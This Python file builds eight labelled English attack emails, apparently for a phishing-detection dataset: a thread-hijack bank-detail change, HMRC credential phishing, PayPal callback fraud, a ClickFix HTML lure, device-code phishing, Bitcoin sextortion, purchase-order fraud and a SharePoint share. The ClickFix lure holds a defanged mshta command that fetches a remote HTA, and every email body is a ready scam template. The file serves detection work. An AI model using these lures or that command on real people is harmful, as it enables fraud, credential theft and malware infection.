"""English attack messages (8)."""

from common import utc, iban_fmt
from kit import S, M, ACC, BTC, plain, alt, with_atts, b64
from mime import attachment, html_branded, html_simple, html_outlook
from media import html_doc
from infra import m365, sendgrid, exim_cpanel, m365_consumer, generic_direct, zoho_eu, gmail
from services import paypal

ATTACKS = []

# ---------------------------------------------------------------------------
# 9. Thread hijack from the genuinely compromised mailbox of the keg supplier
# ---------------------------------------------------------------------------
hij_txt = """Hi Priya,

Thanks for confirming the credit note, all reconciled on our side now.

Just a heads-up before your next payment run: our NatWest account is currently frozen for new credits while the bank completes its annual KYC review of the business, so please DO NOT pay PKS-26-1187 or PKS-26-1203 to the old details. Could you process both to our Starling business account instead:

Account name: PKS Trading (Pennine Keg Services Ltd)
Sort code: 60-83-71
Account no: 44872016
IBAN: %s
BIC: SRLGGB2L

Confirmation of Payee may come back as a close match because the account is held under our trading name, that's expected.

Total due is £7,942.80 (statement attached earlier in the thread). Please drop me a line once it's scheduled so I can let our credit control team know and lift the hold on your account.

Kind regards,
Gareth

Gareth Hughes
Operations & Accounts Manager
Pennine Keg Services Ltd | Unit 12, Hollinwood Business Park, Oldham OL8 3QL
T: 0161 681 2290

________________________________
From: Priya Shah <priya.shah@examplegroup.eu>
Sent: 03 November 2026 14:12
To: Gareth Hughes <gareth.hughes@penninekeg.co.uk>
Subject: RE: Keg repair batch 4471 - invoice PKS-26-1187

Hi Gareth,

Thanks – credit note CN-26-0091 for the 6 rejected spears received, I've matched it against PKS-26-1187. We'll pay the balance in the next run on the 10th.

Best regards
Priya

Priya Shah
Accountant UK
Example Group UK Ltd
""" % iban_fmt(ACC["pennine_fraud"])

ATTACKS.append(M(
    id="A-en-hijack", lang="en", slug="keg-supplier-thread-hijack-bank-change",
    t=utc(2026, 11, 6, 9, 3, 27),
    frm=("Gareth Hughes", "gareth.hughes@penninekeg.co.uk"),
    reply_to=[("Gareth Hughes", "gareth.hughes@penninekegs.co.uk")],
    to=[S["uk_acc"].nm()],
    subject="RE: Keg repair batch 4471 - invoice PKS-26-1187",
    in_reply_to="<8c41f2a09d7b4e31a5c6e0b9f4d2a718@EXCH01.corp.example.com>",
    references="<CWXP265MB4471B8D2A61F0E9C7D13B62EBA81C@CWXP265MB4471.GBRP265.PROD.OUTLOOK.COM> <8c41f2a09d7b4e31a5c6e0b9f4d2a718@EXCH01.corp.example.com>",
    transport=m365("penninekeg.co.uk", region="GBRP265", eop_host="mail-cwxgbr01on2127", ip="40.107.121.127",
                   server="CWXP265MB%04d" % 3318, server2="LO4P265MB%04d" % 6120),
    mua="m365", lang_tag="en-GB", zone="UK", hdr_cs="utf-8",
    body=alt(hij_txt, html_outlook(hij_txt, lang="EN-GB"), cs="utf-8", cte="quoted-printable", cte_html="base64"),
    lookalikes=["penninekegs.co.uk"],
    what="Reply inside a real invoice thread from the keg-service supplier's own mailbox asking to pay two invoices to a 'new' Starling account because the NatWest account is 'frozen for KYC'.",
    why="The supplier's mailbox is compromised (genuine tenant, genuine thread), but Reply-To silently points to the look-alike penninekegs.co.uk; bank switch justified by a frozen account, pre-empts the Confirmation-of-Payee mismatch warning, asks for confirmation by mail – thread-hijack BEC."))

# ---------------------------------------------------------------------------
# 10. HMRC AWRS (alcohol wholesaler registration) credential phishing via SendGrid
# ---------------------------------------------------------------------------
awrs_url = "https://www.tax.service.gov.uk.awrs-annual-review.com/alcohol-wholesale-registration/sign-in?ref=XAAW00000104417"
awrs_txt = """HM Revenue & Customs

Alcohol Wholesaler Registration Scheme (AWRS) – annual review

Unique Reference Number: XAAW00000104417
Business name: EXAMPLE GROUP UK LTD

Dear Sir or Madam,

Our records show that the annual fit and proper review for your AWRS approval has not been completed. Businesses that sell alcohol wholesale must hold a valid AWRS approval; trading without one may lead to a penalty and the seizure of stock.

You need to sign in with your Government Gateway user ID and confirm your business details and your list of customers by 2 December 2026:

[[Complete your AWRS review|%s]]

If you do not complete the review, we may revoke your approval and your URN will be removed from the public AWRS register.

Yours faithfully

Alcohol Wholesaler Registration Scheme team
HM Revenue and Customs

This is an automated email. Please do not reply.
""" % awrs_url
awrs_html = html_branded("Complete your AWRS annual review",
                         ["Unique Reference Number: XAAW00000104417 – Business name: EXAMPLE GROUP UK LTD",
                          "Dear Sir or Madam,",
                          "Our records show that the annual fit and proper review for your AWRS approval has not been completed. Businesses that sell alcohol wholesale must hold a valid AWRS approval; trading without one may lead to a penalty and the seizure of stock.",
                          "You need to sign in with your Government Gateway user ID and confirm your business details and your list of customers by 2 December 2026."],
                         button=("Complete your AWRS review", awrs_url),
                         after_button=["If you do not complete the review, we may revoke your approval and your URN will be removed from the public AWRS register."],
                         footer="Alcohol Wholesaler Registration Scheme team, HM Revenue and Customs\nThis is an automated email. Please do not reply.",
                         brand="#0b0c0c", logo_text="GOV.UK", lang="en")

ATTACKS.append(M(
    id="A-en-hmrc", lang="en", slug="hmrc-awrs-annual-review-phishing",
    t=utc(2026, 11, 25, 11, 40, 2),
    frm=("HMRC AWRS", "awrs.notifications@hmrc-gov-notify.uk"),
    to=[S["uk_mgr"].nm()], cc=[S["uk_acc"].nm()],
    subject="Action required: AWRS annual review for XAAW00000104417",
    transport=sendgrid(host="o17", ip="167.89.20.17", bounce_dom="em3321.hmrc-gov-notify.uk"), mua="none", zone="UK",
    body=alt(awrs_txt, awrs_html, cs="utf-8", cte="quoted-printable"),
    lookalikes=["hmrc-gov-notify.uk", "tax.service.gov.uk.awrs-annual-review.com"],
    what="Credential phishing posing as HMRC: the Alcohol Wholesaler Registration Scheme approval must be 'reviewed' by signing in with Government Gateway.",
    why="Sent through a SendGrid account from hmrc-gov-notify.uk (not gov.uk); the button goes to tax.service.gov.uk.awrs-annual-review.com, a sub-domain trick; HMRC does not send sign-in links, threatens revocation and stock seizure."))

# ---------------------------------------------------------------------------
# 11. Callback phishing (TOAD) through a genuine PayPal invoice
# ---------------------------------------------------------------------------
pp_txt = """Microsoft Billing Department sent you an invoice for £1,249.99 GBP

Due on receipt

Invoice details
Amount requested: £1,249.99 GBP
Invoice number: MS-365-UK-880417
Note from seller:
Your Microsoft 365 Business Premium annual subscription (50 licences) has been renewed and will be charged to your PayPal balance within 24 hours. If you did not authorise this renewal or want a refund, contact Microsoft Billing Support immediately on +44 20 3936 0871 (Mon-Sun 8am-10pm). Do not pay this invoice before speaking to an agent.

[[View and Pay Invoice|https://www.paypal.com/invoice/p/#INV2-9KQ7-XLDM-4BRT-2WZA]]

Don't recognise this invoice?
Before paying, make sure you recognise this invoice. If you don't, report it. Learn more about common security threats and how to spot them. For example, PayPal would never use an invoice or a money request to ask you for your account credentials.

Help & Contact | Security | Apps

PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.

PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg
"""
pp_html = html_branded("Microsoft Billing Department sent you an invoice for £1,249.99 GBP",
                       ["Due on receipt", "Amount requested: £1,249.99 GBP – Invoice number: MS-365-UK-880417",
                        "Note from seller: Your Microsoft 365 Business Premium annual subscription (50 licences) has been renewed and will be charged to your PayPal balance within 24 hours. If you did not authorise this renewal or want a refund, contact Microsoft Billing Support immediately on +44 20 3936 0871 (Mon-Sun 8am-10pm). Do not pay this invoice before speaking to an agent."],
                       button=("View and Pay Invoice", "https://www.paypal.com/invoice/p/#INV2-9KQ7-XLDM-4BRT-2WZA"),
                       after_button=["Don't recognise this invoice? Before paying, make sure you recognise this invoice. If you don't, report it. PayPal would never use an invoice or a money request to ask you for your account credentials."],
                       footer="PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.\nPayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg",
                       brand="#003087", logo_text="PayPal", lang="en")

ATTACKS.append(M(
    id="A-en-toad", lang="en", slug="paypal-invoice-callback-scam",
    t=utc(2026, 10, 21, 16, 58, 40),
    frm=("service@paypal.co.uk", "service@paypal.co.uk"),
    to=[S["uk_acc"].nm()],
    subject="Invoice from Microsoft Billing Department (MS-365-UK-880417)",
    transport=paypal(), mua="none", zone="PT",
    body=alt(pp_txt, pp_html, cs="utf-8", cte="quoted-printable"),
    what="Genuine PayPal invoice e-mail created by a fraudster's PayPal merchant account 'Microsoft Billing Department', with a seller note telling the recipient to call a 'billing support' number about a £1,249.99 renewal.",
    why="Callback phishing (TOAD) abusing PayPal's real invoicing system so headers are legitimate; Microsoft does not bill via PayPal invoices; the phone number leads to scammers who push remote-access tools/refund fraud."))

# ---------------------------------------------------------------------------
# 12. ClickFix HTML attachment (fake remittance advice)
# ---------------------------------------------------------------------------
cf_cmd = 'mshta hxxps://cdn-docview-secure[.]com/nb/remit-2011.hta   # Verification ID: 448-217 - I am not a robot (reCAPTCHA)'
cf_html = html_doc("Remittance Advice NB-20112026 - Word Online", """
<div style="font-family:Segoe UI,Arial,sans-serif;max-width:720px;margin:40px auto;border:1px solid #d6d6d6">
<div style="background:#185abd;color:#fff;padding:10px 16px;font-size:15px">Word Online &nbsp;|&nbsp; Remittance_Advice_NB-20112026.docx</div>
<div style="padding:24px 28px;color:#222">
<p style="font-size:18px;margin-top:0">This document could not be displayed</p>
<p>The document was created with a newer version of Word and requires the <b>Word Online Viewer</b> extension, which is not installed in your browser. The remittance advice is protected for <b>Example Group UK Ltd</b>.</p>
<p><b>How to fix it:</b></p>
<ol>
<li>Press <b>Windows key + R</b> on your keyboard</li>
<li>Copy the verification line below and paste it into the window (<b>Ctrl + V</b>)</li>
<li>Press <b>Enter</b> – the document opens automatically</li>
</ol>
<textarea readonly rows="3" style="width:100%;font-family:Consolas,monospace;font-size:12px">""" + cf_cmd + """</textarea>
<p style="color:#777;font-size:12px">Ref. NB-AP-20112026 &middot; Northbrew Distribution Ltd &middot; Accounts Payable</p>
</div></div>""")
cf_txt = """Good afternoon,

Please find attached our remittance advice for the payment run of 20/11/2026 covering your invoices EGUK-26-4471 to EGUK-26-4480 (total GBP 18,436.20).

The document opens in your browser. Please let us know if any invoice is missing from the allocation.

Kind regards,

Accounts Payable
Northbrew Distribution Ltd
Leeds LS10 1RW
"""
ATTACKS.append(M(
    id="A-en-clickfix", lang="en", slug="remittance-advice-clickfix-html",
    t=utc(2026, 11, 20, 15, 26, 18),
    frm=("Northbrew Distribution - Accounts Payable", "ap-remittance@hollybank-gardenservices.co.uk"),
    to=[S["uk_acc"].nm()],
    subject="Remittance Advice - Payment Run 20/11/2026 - Example Group UK Ltd",
    transport=exim_cpanel("uk1002.webhosting-cpanel.co.uk", "185.151.30.142", "193.233.21.18", zone="+0000"),
    mua="phpmailer", zone="UK",
    body=with_atts(plain(cf_txt, cs="us-ascii", cte="7bit"),
                   [attachment(cf_html.encode("utf-8"), "text/html", "Remittance_Advice_NB-20112026.html", extra_ct="; charset=utf-8")]),
    lookalikes=["cdn-docview-secure.com"],
    what="Fake 'remittance advice' from customer Northbrew with an HTML attachment imitating Word Online that tells the user to press Win+R and paste an mshta command (ClickFix).",
    why="Display name of a real customer but sent from an unrelated garden-services domain through a compromised cPanel host; the HTML attachment is a ClickFix lure that makes the user run mshta with a remote HTA (defanged here); remittance advices are never 'opened' via the Run dialog."))

# ---------------------------------------------------------------------------
# 13. Device-code phishing (Teams briefing)
# ---------------------------------------------------------------------------
dc_txt = """Dear James,

Following your registration for the wholesaler round-table, here are the joining details for next week's members-only briefing:

UK Drinks Wholesale Forum – Members' briefing
"Alcohol Duty uprating, DRS 2027 and AWRS enforcement: what wholesalers need to do before April"
Thursday 3 December 2026, 10:00–11:15 (GMT), Microsoft Teams

Because the session includes HMRC's draft guidance under embargo, access is limited to verified member organisations. To verify your organisation and add the meeting to your calendar, please:

1. Open https://microsoft.com/devicelogin
2. Enter the one-time meeting code: HQ7M3KXLD
3. Sign in with your work account (james.whitfield@example.com) and accept.

The code is valid for 15 minutes after this email was sent; if it has expired, simply reply and I will issue a new one.

Kind regards,

Helen Marsh
Events & Membership Coordinator
UK Drinks Wholesale Forum
"""
ATTACKS.append(M(
    id="A-en-devicecode", lang="en", slug="teams-briefing-device-code-phishing",
    t=utc(2026, 11, 26, 10, 2, 9),
    frm=("Helen Marsh | UK Drinks Wholesale Forum", "ukdwf.events@outlook.com"),
    to=[S["uk_mgr"].nm()],
    subject="Joining details: Members' briefing on Alcohol Duty & DRS – Thu 3 Dec 10:00",
    transport=m365_consumer(eop_host="mail-db8eur05olkn2096", ip="40.92.18.96"), mua="m365", zone="UK",
    body=alt(dc_txt, html_simple(dc_txt, font="Calibri, Arial, sans-serif", size="11pt"), cs="iso-8859-1", cte="quoted-printable"),
    what="Invitation to a 'members-only' Teams briefing on duty and the deposit return scheme that asks the recipient to enter a code at microsoft.com/devicelogin.",
    why="Device-code phishing (Storm-2372 style): the link is Microsoft's real device-login page, but the code was generated by the attacker, so signing in hands the attacker OAuth tokens for the victim's mailbox; sent from a free Outlook.com account; Teams meetings never need a device code."))

# ---------------------------------------------------------------------------
# 14. Extortion / sextortion with a bech32 Bitcoin address, spoofed self-sender
# ---------------------------------------------------------------------------
ext_txt = """Hello James,

I will get straight to the point. Your email james.whitfield@example.com and the password you used on a beer-festival ticket site ("Brew2019!") were part of a leak I bought months ago. That was enough to get a foothold on the laptop you use for work.

For the past weeks I have had access to your camera and your browsing. I have recordings of you and of the websites you visit in the evenings, edited side by side. I also have your contact list - colleagues at Example Group, customers, family.

I am not interested in ruining you. I want 1450 USD in Bitcoin and then I delete everything and you never hear from me again.

Send exactly the equivalent of 1450 USD to this wallet:
%s

If you do not know how, search "buy bitcoin" - it takes ten minutes.

You have 48 hours from opening this message. I can see when it was opened. If I do not receive the payment, the video goes to every address in your contact list and to your company's customers.

Do not reply - this address is yours, I sent it from your own account so you understand how deep I am in. Going to the police will not help; the wallet cannot be traced.
""" % BTC
ATTACKS.append(M(
    id="A-en-extortion", lang="en", slug="sextortion-bitcoin-spoofed-self",
    t=utc(2026, 12, 2, 3, 14, 55),
    frm=("James Whitfield", S["uk_mgr"].addr), env_from=S["uk_mgr"].addr,
    to=[S["uk_mgr"].nm()],
    subject="james.whitfield - your account is compromised",
    transport=generic_direct("static.vnpt.vn", "static.vnpt.vn", "113.161.74.203"), mua="bare", date_zone="+0700",
    msgid="<6A2F7C91D04B3E58A1C97E20@example.com>",
    body=plain(ext_txt, cs="us-ascii", cte="7bit"),
    what="Sextortion: claims camera recordings and quotes an old leaked password, demands USD 1,450 in Bitcoin to a valid bech32 address within 48 hours.",
    why="Sender and envelope spoof the victim's own address, delivered directly from a Vietnamese dynamic IP with no mail-server hop; generic extortion template with a real-looking wallet; no legitimate sender writes this."))

# ---------------------------------------------------------------------------
# 15. Purchase-order fraud impersonating a known customer (look-alike domain, Zoho)
# ---------------------------------------------------------------------------
po_txt = """Hello,

I've recently joined Northbrew Distribution as Purchasing Manager for our new Midlands depot and Rebecca Lawson passed me your details.

We have a large Christmas order from a pub group and would like to place the following on our existing account:

- 120 x Example Lager 50 L keg
- 60 x Example Pale Ale 30 L keg
- 80 cases x Example Pils 24 x 0.33 L NRB

Delivery: Unit 4, Junction 9 Trade Park, Bescot Crescent, Walsall WS1 4NF (our new Midlands depot - please note this is different from Leeds), no later than Friday 11 December, 7am-2pm. Goods-in contact: Daniel 07723 418 660.

As this depot is being set up under our existing account, please invoice Northbrew Distribution Ltd on our usual terms but extend to 60 days for this order, as agreed with Rebecca. The formal PO NB-PO-26-5518 will follow from our ERP system.

Please confirm availability and the delivery slot today if possible.

Kind regards,

Mark Denton
Purchasing Manager - Midlands
Northbrew Distribution Ltd
M: 07441 902 317
"""
ATTACKS.append(M(
    id="A-en-pofraud", lang="en", slug="purchase-order-fraud-lookalike-customer",
    t=utc(2026, 12, 3, 14, 47, 33),
    frm=("Mark Denton - Northbrew Distribution", "mark.denton@northbrew-distribution.co.uk"),
    to=[S["sales2"].nm()], cc=[S["uk_mgr"].nm()],
    subject="New order - Midlands depot - PO NB-PO-26-5518",
    transport=zoho_eu(), mua="none", zone="UK",
    body=alt(po_txt, html_simple(po_txt), cs="utf-8", cte="quoted-printable"),
    lookalikes=["northbrew-distribution.co.uk"],
    what="Large keg order 'from a new purchasing manager of customer Northbrew' for delivery to a 'new Midlands depot' on 60-day credit.",
    why="Purchase-order (goods) fraud: look-alike domain northbrew-distribution.co.uk (real customer uses northbrew.co.uk) on Zoho Mail; delivery to an unknown trade unit (drop site), extended credit terms, new unverifiable contact with mobile only, urgency before Christmas."))

# ---------------------------------------------------------------------------
# 16. SharePoint share from a compromised unrelated tenant
# ---------------------------------------------------------------------------
sp_url = "https://hollinsplumbingheating-my.sharepoint.com/:o:/g/personal/lee_hollinsplumbingheating_co_uk/EjR3mXk2b7FKu9lq0TzA1wYBe7oV4pZ2x9cWd5HhQ8mN3g?e=Xk29Lp"
sp_txt = """Lee Hollins shared a file with you

Example Group UK Ltd - Outstanding Balance & Remittance Q4 2026

Please review the attached statement and confirm the outstanding balance before our year-end.

[[Open|%s]]

This link will work for anyone.

Microsoft respects your privacy. To learn more, please read our Privacy Statement (https://go.microsoft.com/fwlink/?LinkId=521839).
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""" % sp_url
sp_html = html_branded("Lee Hollins shared a file with you",
                       ["Example Group UK Ltd - Outstanding Balance & Remittance Q4 2026",
                        "Please review the attached statement and confirm the outstanding balance before our year-end."],
                       button=("Open", sp_url), after_button=["This link will work for anyone."],
                       footer="Microsoft respects your privacy. To learn more, please read our Privacy Statement.\nMicrosoft Corporation, One Microsoft Way, Redmond, WA 98052",
                       brand="#036c70", logo_text="SharePoint", lang="en")
ATTACKS.append(M(
    id="A-en-sharepoint", lang="en", slug="sharepoint-share-compromised-tenant",
    t=utc(2026, 12, 8, 13, 9, 50),
    frm=("Lee Hollins", "no-reply@sharepointonline.com"),
    to=[S["uk_acc"].nm()],
    subject="Lee Hollins shared \"Example Group UK Ltd - Outstanding Balance & Remittance Q4 2026\" with you",
    transport=m365("hollinsplumbingheating.co.uk", region="GBRP123", eop_host="mail-lo3gbr01on2093", ip="40.107.23.93",
                   server="LO0P123MB%04d" % 5521, server2="CWLP123MB%04d" % 3097),
    mua="none", zone="UTC",
    msgid="<sp-share.8f21c0a4-77b3-4e0e-9d1a-3c55e21b0f47@odspnotify>",
    body=alt(sp_txt, sp_html, cs="utf-8", cte="quoted-printable"),
    what="Genuine-looking SharePoint sharing notification from 'Lee Hollins' (a plumbing firm) for a OneNote titled with Example Group UK's own name and 'outstanding balance'.",
    why="Sent through Microsoft's real infrastructure from a compromised, unrelated tenant (hollinsplumbingheating.co.uk) with no business relationship; the shared OneNote is a landing page for an AitM credential-phishing kit; the file title is tailored to the recipient's company – a common 2025/26 campaign."))
